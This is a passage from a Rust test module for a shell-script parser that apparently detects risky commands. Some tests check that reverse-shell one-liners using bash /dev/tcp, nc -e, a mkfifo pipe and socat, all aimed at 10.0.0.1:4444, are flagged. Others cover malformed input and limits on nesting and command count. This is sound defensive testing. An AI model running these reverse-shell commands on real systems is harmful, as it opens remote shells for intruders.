            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
            "socat tcp:h:1 exec:'bash -li',pty",
        ] {
            assert!(parse(script).reverse_shell, "{script}");
        }
        assert!(!parse("nc -z localhost 5432 && bash -i").reverse_shell);
    }

    #[test]
    fn malformed_input_is_best_effort() {
        let f = parse("echo 'unterminated && curl http://h");
        assert!(f.malformed);
        assert_eq!(
            f.commands[0].argv,
            ["echo", "unterminated && curl http://h"]
        );
        for script in [
            "\"$(", "`", "${", "$((", "a |", "| b", "&&", ">", "<<", "\\", "sh -c", "eval",
        ] {
            let _ = parse(script);
        }
    }

    #[test]
    fn nesting_is_bounded() {
        let deep = format!("{}id{}", "$(".repeat(200), ")".repeat(200));
        let f = parse(&deep);
        assert!(f.commands.iter().all(|c| c.depth <= MAX_DEPTH));
        let wide = "a;".repeat(MAX_COMMANDS + 10);
        let f = parse(&wide);
        assert_eq!(f.commands.len(), MAX_COMMANDS);
        assert!(f.truncated);
    }
}
